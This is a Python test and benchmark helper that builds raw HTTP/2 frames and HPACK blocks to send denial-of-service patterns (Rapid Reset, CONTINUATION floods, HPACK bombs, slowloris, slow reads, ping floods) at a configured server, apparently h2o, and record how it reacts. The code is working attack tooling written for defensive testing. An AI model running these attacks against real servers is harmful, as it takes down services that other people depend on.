# SPDX-License-Identifier: Apache-2.0
"""Hostile HTTP/2 clients, written against the wire format (RFC 9113 frames,
RFC 7541 HPACK) so that they can send what no well-behaved library would:
streams reset as soon as they are opened, header blocks that never end, a
dynamic-table entry referenced a hundred thousand times, streams whose
flow-control window never opens.

Shared by bench/h2_hostile.py (which measures what each pattern costs the
server) and tests/e2e/test_http2_hostile.py (which asserts the behaviour).
Each attack takes a Target and returns a dict of what it did and saw; none
of them checks the server, the caller does. The well-behaved clients
(http1_get, h2_get) use http.client and hyper-h2.
"""

import collections
import http.client
import select
import socket
import ssl
import struct
import threading
import time

JWKS = "/openid/v1/jwks"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SOCK_TIMEOUT = 5.0

# frame types and flags (RFC 9113 section 6)
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
# SETTINGS identifiers
HEADER_TABLE_SIZE, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 1, 3, 4
# error codes
PROTOCOL_ERROR, REFUSED_STREAM, CANCEL = 0x1, 0x7, 0x8
MAX_FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE, which h2o 2.2.5 keeps

# Where the attacks connect: the plain port takes HTTP/2 with prior
# knowledge (h2c), the TLS port through ALPN. cafile verifies the server.
Target = collections.namedtuple("Target", "host port tls_port cafile")


# --------------------------------------------------------------------------
# encoding

def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + struct.pack(">I", stream_id) + payload


def settings(**values):
    """A SETTINGS frame; values by RFC name, e.g. INITIAL_WINDOW_SIZE=0."""
    ids = {"HEADER_TABLE_SIZE": HEADER_TABLE_SIZE, "MAX_CONCURRENT_STREAMS": MAX_CONCURRENT_STREAMS,
           "INITIAL_WINDOW_SIZE": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def hpack_int(value, prefix_bits, first_byte=0):
    """RFC 7541 5.1 integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first_byte | value,))
    out = bytearray((first_byte | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    """A string literal without Huffman coding."""
    return hpack_int(len(s), 7) + s


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def literal_indexed(name, value):
    """Literal header field with incremental indexing, new name (6.2.1):
    the field enters the dynamic table as index 62."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def table_size_update(size):
    return hpack_int(size, 5, 0x20)


# Opens the connection-level window as far as it goes, so that responses
# never wait for the client.
OPEN_CONNECTION_WINDOW = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff - 65535))

NEWEST_DYNAMIC_ENTRY = b"\xbe"  # indexed header field 62: one byte per reference


def request_block(path=JWKS, authority=b"localhost"):
    """The header block of a GET over https: static-table :method GET and
    :scheme https, literal :path (index 4) and :authority (index 1)."""
    return b"\x82\x87" + b"\x04" + hpack_str(path.encode()) + b"\x01" + hpack_str(authority)


def header_frames(stream_id, block, end_stream=True):
    """block as one HEADERS frame and as many CONTINUATION frames as the
    default frame size needs."""
    first, rest = block[:MAX_FRAME], block[MAX_FRAME:]
    flags = (END_STREAM if end_stream else 0) | (0 if rest else END_HEADERS)
    out = [frame(HEADERS, flags, stream_id, first)]
    while rest:
        chunk, rest = rest[:MAX_FRAME], rest[MAX_FRAME:]
        out.append(frame(CONTINUATION, 0 if rest else END_HEADERS, stream_id, chunk))
    return b"".join(out)


# --------------------------------------------------------------------------
# connections

def connect(target, tls=True, timeout=SOCK_TIMEOUT):
    """A socket that has sent the HTTP/2 preface: TLS with ALPN h2, or
    plain with prior knowledge. Raises when TLS does not select h2."""
    raw = socket.create_connection((target.host, target.tls_port if tls else target.port), timeout=timeout)
    sock = raw
    if tls:
        ctx = ssl.create_default_context(cafile=target.cafile)
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(raw, server_hostname=target.host)
        if sock.selected_alpn_protocol() != "h2":
            sock.close()
            raise ConnectionError("ALPN did not select h2 (got %r)" % sock.selected_alpn_protocol())
    sock.sendall(PREFACE)
    return sock


class FrameReader:
    """Reads what the server sends, counting frames by type, remembering
    GOAWAY and RST_STREAM error codes, and whether the server closed."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = bytearray()
        self.types = collections.Counter()
        self.resets = collections.Counter()  # RST_STREAM error code -> count
        self.goaway = None                   # (last stream id, error code, debug text)
        self.closed = False
        self.bytes = 0

    def _parse(self):
        pos = 0
        while len(self.buf) - pos >= 9:
            length = int.from_bytes(self.buf[pos:pos + 3], "big")
            if len(self.buf) - pos < 9 + length:
                break
            ftype = self.buf[pos + 3]
            payload = bytes(self.buf[pos + 9:pos + 9 + length])
            self.types[ftype] += 1
            if ftype == RST_STREAM and length == 4:
                self.resets[int.from_bytes(payload, "big")] += 1
            elif ftype == GOAWAY and length >= 8:
                self.goaway = (int.from_bytes(payload[:4], "big") & 0x7fffffff, int.from_bytes(payload[4:8], "big"),
                               payload[8:].decode("latin-1"))
            pos += 9 + length
        del self.buf[:pos]

    def _recv(self):
        try:
            data = self.sock.recv(1 << 16)
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
            return False
        except (ConnectionError, ssl.SSLError, OSError):
            data = b""
        if not data:
            self.closed = True
            return False
        self.bytes += len(data)
        self.buf += data
        self._parse()
        return True

    def _ready(self, timeout):
        if isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            return True
        return bool(select.select([self.sock], [], [], timeout)[0])

    def drain(self, timeout=0.0):
        """Reads whatever arrives within timeout (0: what is there now)."""
        deadline = time.monotonic() + timeout
        while not self.closed:
            if not self._ready(max(0.0, deadline - time.monotonic())) or not self._recv():
                if time.monotonic() >= deadline:
                    return

    def wait_closed(self, timeout):
        """True when the server closes the connection within timeout."""
        self.drain(timeout)
        return self.closed


def send_or_closed(sock, data):
    """sendall; False when the server has closed or stopped reading (the
    send timed out)."""
    try:
        sock.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, socket.timeout, OSError):
        return False


def send_draining(sock, reader, data, timeout=SOCK_TIMEOUT):
    """Sends data and meanwhile reads what the server sends, as a
    full-duplex client does. A client that only writes stalls both sides
    once the server's answers fill its receive buffer: h2o stops reading a
    connection while its own write is stuck. False when the server closed
    or took nothing for timeout."""
    view, last, saved = memoryview(data), time.monotonic(), sock.gettimeout()
    sock.settimeout(0)
    try:
        while view and not reader.closed:
            readable, writable, _ = select.select([sock], [sock], [], 0.1)
            if readable or (isinstance(sock, ssl.SSLSocket) and sock.pending()):
                reader.drain()
            if writable:
                try:
                    sent = sock.send(view[:16384])  # at most a TLS record: a retry repeats the same bytes
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    sent = 0
                except (ConnectionError, ssl.SSLError, OSError):
                    return False
                if sent:
                    view, last = view[sent:], time.monotonic()
            if time.monotonic() - last > timeout:
                return False
        return not view
    finally:
        sock.settimeout(saved)


# --------------------------------------------------------------------------
# attacks

def rapid_reset(target, seconds, batch=500, tls=True, settle=30.0):
    """CVE-2023-44487: on one connection, HEADERS (a complete GET) followed
    at once by RST_STREAM(CANCEL), stream after stream, as fast as this
    process can, for seconds. The server never sees more than one open
    stream, so SETTINGS_MAX_CONCURRENT_STREAMS does not limit it.

    Then a PING, and the connection stays open until its ACK (at most
    settle seconds): the server answers it only after reading every frame
    before it. Closing earlier would reset the connection and drop the
    streams still in the server's socket buffer (megabytes, for a server
    slowed down by memcheck), so that the count of streams sent would
    overstate what the server was made to do."""
    sock = connect(target, tls)
    reader = FrameReader(sock)
    sock.sendall(settings())
    block = request_block()
    head = struct.pack(">I", len(block))[1:] + bytes((HEADERS, END_STREAM | END_HEADERS))
    rst = struct.pack(">I", 4)[1:] + bytes((RST_STREAM, 0))
    cancel = struct.pack(">I", CANCEL)
    stream_id, sent, nbytes, deadline = 1, 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline and not reader.closed:
        chunk = bytearray()
        for _ in range(batch):
            sid = struct.pack(">I", stream_id)
            chunk += head + sid + block + rst + sid + cancel
            stream_id += 2
        if not send_draining(sock, reader, chunk):
            break
        sent += batch
        nbytes += len(chunk)
    pings = reader.types[PING]
    if not reader.closed and send_or_closed(sock, frame(PING, 0, 0, b"barrier!")):
        deadline = time.monotonic() + settle
        while reader.types[PING] == pings and not reader.closed and time.monotonic() < deadline:
            reader.drain(0.1)
    sock.close()
    return {"streams": sent, "bytes_sent": nbytes, "server_closed": reader.closed,
            "goaway": reader.goaway, "frames_received": dict(reader.types)}


def _open_held_streams(target, streams, block_for, tls, stop):
    """One connection whose flow-control window is 0, so that no response
    body can be sent and every stream the server takes stays open; then
    `streams` GETs, each with the header block block_for(i) (i counts from
    0 on each connection), until the server closes or stop is set.
    Returns (sock, reader, bytes sent)."""
    sock = connect(target, tls)
    reader = FrameReader(sock)
    sent = len(PREFACE)
    data = settings(INITIAL_WINDOW_SIZE=0)
    if not send_or_closed(sock, data):
        return sock, reader, sent
    sent += len(data)
    for i in range(streams):
        data = header_frames(2 * i + 1, block_for(i))
        if stop.is_set() or not send_or_closed(sock, data):
            break
        sent += len(data)
    return sock, reader, sent


def _hold(conns, seconds):
    """Keeps the connections open for seconds, reading what arrives (so
    that the server is never blocked on writing to us); returns how many
    the server closed."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for _, reader, _ in conns:
            reader.drain()
        time.sleep(0.1)
    time.sleep(0.05)
    for _, reader, _ in conns:
        reader.drain()
    return sum(1 for _, r, _ in conns if r.closed)


def _summary(conns, streams, closed):
    resets = collections.Counter()
    for _, r, _ in conns:
        resets.update(r.resets)
    for sock, _, _ in conns:
        sock.close()
    return {"connections": len(conns), "streams_per_connection": streams,
            "bytes_sent": sum(n for _, _, n in conns), "closed_by_server": closed,
            "refused_streams": resets.get(REFUSED_STREAM, 0), "resets": dict(resets),
            "goaways": dict(collections.Counter("%d %s" % r.goaway[1:] for _, r, _ in conns if r.goaway))}


def held_streams(target, connections, streams, seconds, tls=True, block_for=None, stop=None):
    """Too many streams: `connections` connections with a zero window, each
    opening `streams` GETs (more than SETTINGS_MAX_CONCURRENT_STREAMS) and
    never letting a response body through; held for seconds. block_for
    gives each request its header block (default: a plain GET). Setting
    the event stop ends the attack early (a caller watching the server's
    memory), with what was sent so far counted."""
    block = request_block()
    stop = stop or threading.Event()
    conns = []
    while len(conns) < connections and not stop.is_set():
        conns.append(_open_held_streams(target, streams, block_for or (lambda i: block), tls, stop))
    result = _summary(conns, streams, _hold(conns, 0 if stop.is_set() else seconds))
    result["stopped"] = stop.is_set()
    return result


def hpack_bomb_block(block_bytes, entry_bytes=4000):
    """HPACK bomb: the first stream of a connection puts one header of
    entry_bytes into the dynamic table; every stream (the first included)
    then references it with one byte, block_bytes times. h2o 2.2.5 turns
    each reference into a header of its own (no count limit, unlike
    HTTP/1's 100): block_bytes headers per request."""
    def block_for(i):
        insert = literal_indexed(b"x-bomb", b"a" * entry_bytes) if i == 0 else b""
        return request_block() + insert + NEWEST_DYNAMIC_ENTRY * block_bytes
    return block_for


def many_literals_block(block_bytes):
    """Many small literal headers ("a: b", five bytes each) filling
    block_bytes."""
    block = request_block() + literal(b"a", b"b") * (block_bytes // 5)
    return lambda i: block


def big_value_block(block_bytes):
    """One literal header whose value fills block_bytes."""
    block = request_block() + literal(b"x-big", b"v" * block_bytes)
    return lambda i: block


def continuation_flood(target, seconds, frame_len=0, tls=True):
    """CVE-2024-27316 style: HEADERS without END_HEADERS, then CONTINUATION
    frames of frame_len bytes (0: empty ones, which add nothing to the
    block) without end, until the server closes or seconds pass."""
    sock = connect(target, tls)
    reader = FrameReader(sock)
    sock.sendall(settings() + frame(HEADERS, END_STREAM, 1, request_block()))
    cont = frame(CONTINUATION, 0, 1, b"x" * frame_len)
    batch = cont * max(1, (1 << 16) // len(cont))
    frames, deadline = 0, time.monotonic() + seconds
    while time.monotonic() < deadline and not reader.closed:
        if not send_or_closed(sock, batch):
            break
        frames += len(batch) // len(cont)
        reader.drain()
    reader.drain(0.3)
    sock.close()
    return {"frames": frames, "bytes_sent": frames * len(cont), "server_closed": reader.closed,
            "goaway": reader.goaway, "resets": dict(reader.resets)}


def continuation_hold(target, connections, fill_bytes, seconds, tls=True):
    """Header blocks that never end, held: each connection sends HEADERS
    and CONTINUATION frames carrying fill_bytes (h2o 2.2.5 buffers up to
    about 400 KiB of them), then one empty CONTINUATION a second, which
    restarts the idle timeout; held for seconds after the last one opened."""
    fill = NEWEST_DYNAMIC_ENTRY * fill_bytes  # never parsed: the block never ends
    opening = settings() + frame(HEADERS, END_STREAM, 1, request_block())
    opening += b"".join(frame(CONTINUATION, 0, 1, fill[i:i + MAX_FRAME]) for i in range(0, len(fill), MAX_FRAME))
    empty = frame(CONTINUATION, 0, 1)
    conns = []

    def drip():
        for sock, reader, _ in conns:
            if not reader.closed:
                send_or_closed(sock, empty)
                reader.drain()

    last_drip = time.monotonic()
    for _ in range(connections):
        sock = connect(target, tls)
        sent = len(PREFACE) + (len(opening) if send_or_closed(sock, opening) else 0)
        conns.append((sock, FrameReader(sock), sent))
        if time.monotonic() - last_drip >= 1.0:
            drip()
            last_drip = time.monotonic()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        drip()
        time.sleep(min(1.0, max(0.0, deadline - time.monotonic())))
    return _summary(conns, 1, _hold(conns, 0))


def h1_slowloris(target, connections, fill_bytes, seconds):
    """The HTTP/1.1 counterpart of continuation_hold, on the plain port: a
    request head of fill_bytes that never ends, then one more byte a
    second. (FrameReader only serves to notice the close here.)"""
    head = b"GET " + JWKS.encode() + b" HTTP/1.1\r\nHost: x\r\nx-fill: " + b"a" * fill_bytes
    conns = []
    for _ in range(connections):
        sock = socket.create_connection((target.host, target.port), timeout=SOCK_TIMEOUT)
        conns.append((sock, FrameReader(sock), len(head) if send_or_closed(sock, head) else 0))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for sock, reader, _ in conns:
            if not reader.closed:
                send_or_closed(sock, b"a")
                reader.drain()
        time.sleep(min(1.0, max(0.0, deadline - time.monotonic())))
    return _summary(conns, 1, _hold(conns, 0))


def h1_pipeline_noread(target, connections, requests, seconds):
    """The HTTP/1.1 counterpart of slow reading, on the plain port:
    `requests` pipelined GETs per connection, no response ever read; held
    for seconds."""
    batch = (b"GET " + JWKS.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n") * requests
    conns = []
    for _ in range(connections):
        sock = socket.create_connection((target.host, target.port), timeout=1.0)
        sent = len(batch) if send_or_closed(sock, batch) else 0  # may stall: the server stops reading
        conns.append((sock, FrameReader(sock), sent))
    time.sleep(seconds)
    return _summary(conns, requests, None)  # whether it closed is hidden behind the unread responses


def table_churn(target, seconds, tls=True):
    """HPACK dynamic-table games: every request empties the table (a size
    update to 0, then back to 4096, which RFC 7541 allows only at the start
    of a block) and inserts twelve entries of 1.3 KiB, each evicting an
    older one; the connection's SETTINGS announce a 4 GiB table for the
    server's encoder. Responses are read, like a normal client."""
    sock = connect(target, tls)
    reader = FrameReader(sock)
    sock.sendall(settings(HEADER_TABLE_SIZE=0xFFFFFFFF) + OPEN_CONNECTION_WINDOW)
    inserts = b"".join(literal_indexed(b"x-c%d" % k, b"c" * 1300) for k in range(12))
    block = table_size_update(0) + table_size_update(4096) + request_block() + inserts
    stream_id, requests, nbytes, deadline = 1, 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline and not reader.closed:
        data = b"".join(header_frames(stream_id + 2 * k, block) for k in range(50))
        if not send_or_closed(sock, data):
            break
        stream_id += 100
        requests += 50
        nbytes += len(data)
        reader.drain(0.01)
    sock.close()
    return {"requests": requests, "bytes_sent": nbytes, "server_closed": reader.closed, "goaway": reader.goaway,
            "frames_received": dict(reader.types)}


def slow_read(target, connections, streams, seconds, window=16, tls=True):
    """Slow reading through flow control: a 16-byte window per stream, and
    every second each stream is given 16 bytes more, for seconds (the
    connection's own 64 KiB window outlasts any of the runs here)."""
    conns = []
    block = request_block()
    for _ in range(connections):
        sock = connect(target, tls)
        data = settings(INITIAL_WINDOW_SIZE=window)
        data += b"".join(header_frames(2 * i + 1, block) for i in range(streams))
        send_or_closed(sock, data)
        conns.append((sock, FrameReader(sock), len(PREFACE) + len(data)))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for sock, reader, _ in conns:
            updates = [frame(WINDOW_UPDATE, 0, 2 * i + 1, struct.pack(">I", window)) for i in range(streams)]
            send_or_closed(sock, b"".join(updates))
            reader.drain()
        time.sleep(1.0)
    data_frames = sum(r.types.get(DATA, 0) for _, r, _ in conns)
    result = _summary(conns, streams, _hold(conns, 0))
    result["data_frames_received"] = data_frames
    return result


def ping_flood(target, seconds, tls=True):
    """PINGs as fast as possible while never reading the PING ACKs
    (CVE-2019-9512); Debian's h2o stops reading a connection whose unsent
    output passes 512 KiB, so the send side should stall."""
    sock = connect(target, tls)
    sock.settimeout(2.0)
    batch = frame(PING, 0, 0, b"12345678") * 4096
    pings, deadline = 0, time.monotonic() + seconds
    stalled = False
    while time.monotonic() < deadline:
        if not send_or_closed(sock, batch):
            stalled = True
            break
        pings += 4096
    sock.close()
    return {"pings": pings, "bytes_sent": pings * 17, "send_stalled": stalled}


# --------------------------------------------------------------------------
# well-behaved clients

def http1_get(target, path=JWKS, timeout=SOCK_TIMEOUT):
    """One HTTP/1.1 GET on a fresh plain connection: (status, body)."""
    c = http.client.HTTPConnection(target.host, target.port, timeout=timeout)
    try:
        c.request("GET", path)
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def h2_get(target, path=JWKS, timeout=SOCK_TIMEOUT):
    """One HTTP/2 GET over a fresh TLS connection with hyper-h2: (status,
    body). Raises ConnectionError when the server does not speak h2."""
    import h2.config
    import h2.connection
    import h2.events

    sock = connect(target, tls=True, timeout=timeout)
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        # connect() has sent the preface already; hyper-h2 starts with it too
        sock.sendall(conn.data_to_send()[len(PREFACE):])
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":path", path), (":scheme", "https"),
                                (":authority", target.host)], end_stream=True)
        sock.sendall(conn.data_to_send())
        status, body = None, b""
        while True:
            data = sock.recv(1 << 16)
            if not data:
                raise ConnectionError("server closed the HTTP/2 connection")
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived):
                    status = int(dict(ev.headers)[":status"])
                elif isinstance(ev, h2.events.DataReceived):
                    body += ev.data
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded):
                    return status, body
                elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise ConnectionError("server ended the stream: %r" % ev)
            sock.sendall(conn.data_to_send())
    finally:
        sock.close()


def timed(fn, *args):
    """(ok, seconds, detail): fn(*args) must return a 200."""
    t0 = time.monotonic()
    try:
        status, _ = fn(*args)
        return status == 200, time.monotonic() - t0, status
    except Exception as e:  # a failed probe is a result, not an error
        return False, time.monotonic() - t0, "%s: %s" % (type(e).__name__, e)


def proc_stats(pid):
    """(CPU seconds user+system, VmRSS KiB, VmHWM KiB) of a process."""
    import os
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    cpu = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    mem = {}
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                mem[key] = int(value.split()[0])
    return cpu, mem.get("VmRSS", 0), mem.get("VmHWM", 0)


def proc_bytes_read(pid):
    """Bytes a process has read (rchar: sockets included), which counts
    what an attacker got through even when it is killed half-way."""
    with open("/proc/%d/io" % pid) as f:
        for line in f:
            if line.startswith("rchar:"):
                return int(line.split()[1])
    return 0
